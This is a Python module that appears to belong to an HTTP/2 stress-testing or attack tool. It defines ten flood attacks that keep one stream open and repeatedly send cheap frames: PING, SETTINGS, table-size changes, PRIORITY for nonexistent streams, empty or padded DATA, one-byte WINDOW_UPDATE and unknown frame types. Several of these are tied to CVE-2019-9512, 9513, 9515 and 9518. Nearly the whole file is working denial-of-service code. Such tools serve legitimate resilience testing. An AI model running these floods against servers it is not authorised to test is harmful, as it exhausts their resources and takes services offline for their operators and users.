"""Floods of frames that cost their sender nothing and ask for an answer, a look-up or a wake-up."""

from hyperframe.frame import DataFrame, PingFrame, SettingsFrame, WindowUpdateFrame

from peer import Peer, request

PRIORITY = 2
UNKNOWN = 0xBB


def _attack(send, reads=True, doc=None):
    def attack(target, pace):
        peer = Peer(target, reads=reads)
        # One good stream stays open, for frames that need one.
        stream = peer.open(request(b"/attack/slow", method=b"POST"), end=False)
        n = 0
        while pace.goes_on(peer):
            send(peer, stream, n)
            n += 1
            if n % 256 == 0:
                peer.pump(0)
        return peer

    attack.__doc__ = doc or send.__doc__
    return attack


def ping(peer, stream, n):
    """PING, each of which asks for an answer (CVE-2019-9512)."""
    peer.send(PingFrame(0, opaque_data=n.to_bytes(8, "big")))


def settings(peer, stream, n):
    """Empty SETTINGS, each of which asks for an answer (CVE-2019-9515)."""
    peer.send(SettingsFrame(0))


def table_size(peer, stream, n):
    """SETTINGS that change the table's size to and fro."""
    peer.send(SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096 * (n % 2)}))


def priority(peer, stream, n):
    """PRIORITY for streams that do not exist (CVE-2019-9513)."""
    peer.raw(PRIORITY, 0, 1 + 2 * (n % 100_000), b"\0\0\0\0\x10", "PriorityFrame")


def empty_data(peer, stream, n):
    """DATA without a byte in it, which no window counts (CVE-2019-9518)."""
    peer.send(DataFrame(stream))


def padded_data(peer, stream, n):
    """DATA with nothing in it but padding."""
    peer.raw(0, 0x8, stream, b"\x00", "DataFrame")


def window_update(peer, stream, n):
    """WINDOW_UPDATE by one byte."""
    peer.send(WindowUpdateFrame(0 if n % 2 else stream, window_increment=1))


def unknown(peer, stream, n):
    """Frames of a type that does not exist, which are ignored (RFC 9113, section 5.5)."""
    peer.raw(UNKNOWN, 0, 0, b"", "unknown")


ATTACKS = {
    "flood-ping": _attack(ping),
    "flood-ping-unread": _attack(ping, reads=False, doc="PING, whose answers are never read."),
    "flood-settings": _attack(settings),
    "flood-settings-unread": _attack(settings, reads=False, doc="SETTINGS, whose answers are never read."),
    "flood-table-size": _attack(table_size),
    "flood-priority": _attack(priority),
    "flood-empty-data": _attack(empty_data),
    "flood-padded-data": _attack(padded_data),
    "flood-window-update": _attack(window_update),
    "flood-unknown": _attack(unknown),
}
